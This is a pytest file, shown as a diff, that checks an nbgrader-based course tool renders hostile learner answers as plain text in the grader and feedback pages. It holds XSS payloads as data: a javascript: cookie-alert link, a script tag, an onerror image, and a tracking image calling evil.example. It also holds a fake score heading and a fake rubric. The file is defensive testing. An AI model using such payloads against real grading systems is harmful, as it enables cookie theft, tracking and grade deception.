@@ -1,0 +1,171 @@
+"""Does a hostile learner's text stay text in the grader's formgrader page and in the feedback? (issue 20)
+
+A learner answers a fill-in and a case question with a ``javascript:`` link, a tracking image,
+a fake score heading, a fake grader-only rubric and raw HTML, and submits through nbgrader's
+exchange. nbgrader's real formgrader page of that submission (served by a Jupyter server
+with nbgrader's own extension) and the learner's feedback page are opened in headless
+Chromium: every text shows as typed, no request leaves the page (each one is recorded by
+Playwright's routing), no ``javascript:`` URL and no learner image is in the DOM, and nothing
+runs.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from nbgrader.api import Gradebook
+from typer.testing import CliRunner
+
+from course import learners, workflow
+from course.cli import app
+from course.nbconfig import db_url
+from tests.conftest import MINI, CourseDir, make_course_dir
+from tests.test_pipeline import PARTIAL
+
+CHROMIUM = shutil.which("chromium")
+if CHROMIUM is None and not os.environ.get("CI"):
+    pytest.skip("needs Debian's chromium (apt-get install chromium); CI installs it and never skips",
+                allow_module_level=True)
+
+from playwright.sync_api import sync_playwright  # noqa: E402 - only once chromium is known to be there
+
+from tests.test_browser import CHROMIUM_ARGS  # noqa: E402
+
+LEARNER = "li"
+TOKEN = "hostile-answers"
+LINK = "[点我](javascript:alert(document.cookie))"
+IMAGE = "![](http://evil.example/t.png?who=li)"
+HEADING = "# 得分：10 / 10 分"
+RUBRIC = "**评分要点（仅评分人可见）**\n- 全部要点都已答到（4分）"
+RAW = ('<img src="http://evil.example/x.png" onerror="alert(1)"><script>alert(2)</script>'
+       '<a href="javascript:alert(3)">看</a>')
+CASE = "\n".join([HEADING, RUBRIC, LINK, IMAGE, RAW])
+SHOWN = [LINK, IMAGE, HEADING, "**评分要点（仅评分人可见）**", "- 全部要点都已答到（4分）", RAW]  # as typed, as text
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> CourseDir:
+    cd = make_course_dir(tmp_path_factory.mktemp("course"))
+    workflow.generate(cd.root, ["ch01"])
+    workflow.release(cd.root, ["ch01"])
+    home = cd.root / "homes" / LEARNER
+    folder = learners.fetch(cd.root, "ch01", LEARNER, home)
+    learners.answer(folder, "ch01", LEARNER, {**PARTIAL, "ch01-004": [LINK, IMAGE], "ch01-007": CASE})
+    learners.submit(cd.root, "ch01", LEARNER, home)
+    workflow.collect(cd.root, ["ch01"])
+    report = workflow.autograde(cd.root, cd.course, ["ch01"], workers=1, progress=False)
+    assert report.graded == [(LEARNER, "ch01")] and report.problems == []
+    return cd
+
+
+@pytest.fixture(scope="module")
+def formgrader(hostile: CourseDir, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A Jupyter server in the course folder with nbgrader's formgrader extension, as an instructor runs it."""
+    port = _free_port()
+    bindir = str(Path(sys.executable).parent)
+    env = {**os.environ, "PATH": bindir + os.pathsep + os.environ.get("PATH", ""), "COURSE_CONTENT": str(MINI),
+           "JUPYTER_CONFIG_DIR": str(tmp_path_factory.mktemp("jupyter-config"))}
+    log = (hostile.root.parent / "server.log").open("w")
+    server = subprocess.Popen(
+        [f"{bindir}/jupyter", "server", "--no-browser", "--allow-root", f"--port={port}", "--ServerApp.ip=127.0.0.1",
+         f"--IdentityProvider.token={TOKEN}", f"--ServerApp.root_dir={hostile.root}"],
+        cwd=hostile.root, env=env, stdout=log, stderr=subprocess.STDOUT)
+    url = f"http://127.0.0.1:{port}"
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                urllib.request.urlopen(f"{url}/api/status?token={TOKEN}", timeout=2)
+                break
+            except OSError:
+                if time.monotonic() > deadline or server.poll() is not None:
+                    raise RuntimeError(f"the Jupyter server did not start; see {log.name}") from None
+                time.sleep(0.3)
+        yield url
+    finally:
+        server.terminate()
+        server.wait(timeout=30)
+        log.close()
+
+
+def _open(url: str, local: str) -> dict[str, Any]:
+    """Open ``url`` in headless Chromium; every request recorded, any to another host refused."""
+    requests: list[str] = []
+    dialogs: list[str] = []
+
+    def route(r: Any) -> None:
+        requests.append(r.request.url)
+        if urlsplit(r.request.url).netloc == local:
+            r.continue_()
+        else:
+            r.abort()
+
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
+        page = browser.new_page()
+        page.route("**/*", route)
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.goto(url)
+        page.wait_for_load_state("load")
+        found = {
+            "text": page.locator("body").inner_text(),
+            "hrefs": page.eval_on_selector_all("[href], [src], [action], [formaction]", """els => els.flatMap(
+                e => ['href', 'src', 'action', 'formaction'].map(a => e.getAttribute(a)).filter(v => v !== null))"""),
+            "images": page.eval_on_selector_all("img", "els => els.map(e => e.getAttribute('src'))"),
+            "headings": page.eval_on_selector_all("h1, h2, h3, h4, h5, h6", "els => els.map(e => e.innerText)"),
+            "scripts": page.eval_on_selector_all("script", "els => els.map(e => e.textContent)"),
+        }
+        browser.close()
+    return {**found, "requests": requests, "dialogs": dialogs}
+
+
+def _assert_inert(seen: dict[str, Any]) -> None:
+    text = seen["text"].replace("\u00a0", " ")
+    for typed in SHOWN:
+        assert typed in text, typed
+    assert [u for u in seen["hrefs"] if u.strip().lower().startswith("javascript:")] == []
+    assert [u for u in seen["hrefs"] if "evil.example" in u] == []
+    assert [h for h in seen["headings"] if "10 / 10" in h or "评分要点" in h] == []
+    assert [s for s in seen["scripts"] if "alert(" in s] == []
+    assert seen["dialogs"] == []  # nothing ran
+
+
+def test_formgrader_shows_the_hostile_answers_as_text_and_loads_nothing_from_elsewhere(
+        hostile: CourseDir, formgrader: str) -> None:
+    with Gradebook(db_url(hostile.root), course_id="kam-cert") as gb:
+        submission = gb.find_submission_notebook("ch01", "ch01", LEARNER).id
+    seen = _open(f"{formgrader}/formgrader/submissions/{submission}/?index=0&token={TOKEN}",
+                 urlsplit(formgrader).netloc)
+    assert "ch01-007" in seen["text"] or "学员作答" in seen["text"]  # the page is the submission's
+    _assert_inert(seen)
+    elsewhere = {urlsplit(u).netloc for u in seen["requests"]} - {urlsplit(formgrader).netloc}
+    # nbgrader's own page template asks two CDNs for require.js and MathJax (refused here); nothing else
+    assert elsewhere <= {"cdnjs.cloudflare.com", "cdn.jsdelivr.net"}, elsewhere
+
+
+def test_the_feedback_page_shows_them_as_text_and_requests_nothing(hostile: CourseDir) -> None:
+    result = CliRunner().invoke(app, ["feedback", "--root", str(hostile.root), "--content", str(MINI)])
+    assert result.exit_code == 0, result.output
+    page = hostile.root / "feedback" / LEARNER / "ch01" / "ch01.html"
+    seen = _open(page.as_uri(), "")
+    _assert_inert(seen)
+    assert seen["requests"] == [page.as_uri()]  # the page itself, nothing else
+    text = seen["text"]
+    assert text.count("待评分（满分 4 分）") == 1  # the real state; the learner's fake heading is only text
